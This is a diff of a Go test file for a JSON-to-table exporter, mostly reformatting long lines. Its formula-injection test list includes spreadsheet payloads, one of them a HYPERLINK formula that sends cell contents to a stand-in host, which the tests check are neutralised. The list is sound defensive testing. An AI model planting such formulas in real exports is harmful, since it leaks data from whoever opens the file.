@@ -44,7 +44,7 @@ func TestUnknownKind(t *testing.T) {
 	t.Parallel()
 	var out bytes.Buffer
 	n, err := table.Write(t.Context(), "webhooks", strings.NewReader("{}\n"), &out)
-	if n != 0 || err == nil || !strings.Contains(err.Error(), `"webhooks"; choose one of conversations, messages, `) || out.Len() > 0 {
+	if n != 0 || out.Len() > 0 || err == nil || !strings.Contains(err.Error(), `"webhooks"; choose one of conversations, `) {
 		t.Error(n, err, out.String())
 	}
 }
@@ -84,7 +84,8 @@ func TestAssignee(t *testing.T) {
 	if people == 0 || nobody == 0 {
 		t.Error("of a bot, a person and nobody there are", bots, people, nobody)
 	}
-	cells := one(t, "conversations", `{"id":1,"meta":{"assignee_type":"AgentBot","assignee":{"id":3,"name":"=Bot","bot_type":"webhook"}}}`)
+	cells := one(t, "conversations",
+		`{"id":1,"meta":{"assignee_type":"AgentBot","assignee":{"id":3,"name":"=Bot","bot_type":"webhook"}}}`)
 	if cells["assignee_type"] != "AgentBot" || cells["assignee_id"] != "3" || cells["assignee_name"] != "'=Bot" {
 		t.Errorf("%q", cells)
 	}
@@ -113,7 +114,8 @@ func TestAttachments(t *testing.T) {
 
 func TestContactInboxes(t *testing.T) {
 	t.Parallel()
-	cells := one(t, "contacts", `{"id":1,"contact_inboxes":[{"source_id":"a-1","inbox":{"id":4}},{"source_id":"b-2","inbox":{"id":2}}]}`)
+	cells := one(t, "contacts",
+		`{"id":1,"contact_inboxes":[{"source_id":"a-1","inbox":{"id":4}},{"source_id":"b-2","inbox":{"id":2}}]}`)
 	if cells["inbox_ids"] != "4, 2" || cells["source_ids"] != "a-1, b-2" {
 		t.Errorf("%q", cells)
 	}
@@ -135,7 +137,8 @@ func TestAttributesAreAsReceived(t *testing.T) {
 		}
 	}
 	for _, received := range []string{`["a, b","<c>",2]`, `[]`} {
-		if got := one(t, "attribute_definitions", `{"id":1,"attribute_values":`+received+`}`)["attribute_values"]; got != received {
+		cells := one(t, "attribute_definitions", `{"id":1,"attribute_values":`+received+`}`)
+		if got := cells["attribute_values"]; got != received {
 			t.Error(got)
 		}
 	}
@@ -143,8 +146,8 @@ func TestAttributesAreAsReceived(t *testing.T) {
 
 // It is OWASP's list, and what comes to the same.
 var formulas = []string{
-	"=1+1", "+49301234567", "-1", "@SUM(1)", "\ttab", "\rreturn", "\nline", " =1", "\u00a0=1", "\u3000@x", " \t-1", "\x00=1", "\ufeff=1",
-	"\u200b=1", "\u202e+1", "＝1", "＋1", "－1", "＠x", " ＝1", "=HYPERLINK(\"https://x.test?\"&A1,\"a, b\")", "=", "\r\n=1",
+	"=1+1", "+49301234567", "-1", "@SUM(1)", "\ttab", "\rreturn", "\nline", " =1", "\u00a0=1", "\u3000@x", " \t-1", "\x00=1",
+	"\ufeff=1", "\u200b=1", "\u202e+1", "＝1", "＋1", "－1", "＠x", " ＝1", "=HYPERLINK(\"https://x.test?\"&A1,\"a, b\")", "=", "\r\n=1",
 }
 
 func TestFormulas(t *testing.T) {
@@ -220,7 +223,8 @@ func poison(value any) any {
 
 func TestNumbersAndTimesAreNotText(t *testing.T) {
 	t.Parallel()
-	cells := one(t, "conversations", `{"id":-5,"unread_count":-3,"created_at":-86400,"snoozed_until":"2030-01-01T01:00:00.500+01:00"}`)
+	cells := one(t, "conversations",
+		`{"id":-5,"unread_count":-3,"created_at":-86400,"snoozed_until":"2030-01-01T01:00:00.500+01:00"}`)
 	if cells["id"] != "-5" || cells["unread_count"] != "-3" || cells["created_at"] != "1969-12-31T00:00:00Z" ||
 		cells["snoozed_until"] != "2030-01-01T00:00:00.5Z" {
 		t.Errorf("%q", cells)
@@ -310,7 +314,8 @@ func TestBadLines(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
 			var out bytes.Buffer
-			n, err := table.Write(t.Context(), "messages", strings.NewReader(`{"id":1}`+"\r\n\n"+`{"id":2}`+"\n"+test.line), &out)
+			lines := `{"id":1}` + "\r\n\n" + `{"id":2}` + "\n" + test.line
+			n, err := table.Write(t.Context(), "messages", strings.NewReader(lines), &out)
 			if n != 2 || err == nil || !strings.HasPrefix(err.Error(), test.want) {
 				t.Errorf("%d rows, %v", n, err)
 			}
